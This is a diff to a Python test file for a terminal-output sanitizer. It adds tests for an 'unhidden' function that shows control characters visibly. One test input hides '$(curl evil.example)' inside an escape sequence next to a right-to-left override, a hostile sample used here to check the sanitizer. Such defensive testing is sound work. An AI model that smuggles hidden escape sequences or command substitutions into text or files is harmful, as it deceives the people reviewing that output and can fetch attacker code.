@@ -6,7 +6,12 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from bytebuddy_provider_hf.cli.terminal import Sanitizer, sanitize, sanitize_line
+from bytebuddy_provider_hf.cli.terminal import (
+    Sanitizer,
+    sanitize,
+    sanitize_line,
+    unhidden,
+)
 
 SEQUENCES = {
     "colour": "a\x1b[31mb",
@@ -67,6 +72,17 @@ def test_one_line_holds_no_line_feed() -> None:
     assert sanitize_line("a\nerror: b\t c") == "a error: b c"
 
 
+def test_what_is_agreed_to_hides_nothing() -> None:
+    """Of a diff every control character is seen: a file gets what the screen drops."""
+    hidden = "echo hi\x1b]0;$(curl evil.example)\x07 \x9b8m\u202e\r \x00"
+    shown = unhidden(hidden)
+    assert shown == (
+        "echo hi⟨U+001B⟩]0;$(curl evil.example)⟨U+0007⟩ ⟨U+009B⟩8m⟨U+202E⟩⟨U+000D⟩ "
+        "⟨U+0000⟩"
+    )
+    assert unhidden("+a\t1\r\n-b\r\n+c\r") == "+a\t1\n-b\n+c"
+
+
 HOSTILE = st.text(alphabet=st.sampled_from("ab\n\t\x1b[]P\\\x07\x9b\x9d\x9c31m;\r\x7f"))
 
 
@@ -83,3 +99,16 @@ def test_no_control_character_passes_and_cuts_change_nothing(
         for character in shown
         if character not in "\n\t"
     )
+
+
+@given(text=HOSTILE)
+def test_no_control_character_passes_what_hides_nothing(text: str) -> None:
+    """Only line feed and tab reach the screen, and no other character is lost."""
+    shown = unhidden(text)
+    assert not any(
+        ord(character) < 0x20 or 0x7F <= ord(character) <= 0x9F
+        for character in shown
+        if character not in "\n\t"
+    )
+    for character in "ab[]P\\31m;":
+        assert shown.count(character) >= text.count(character)
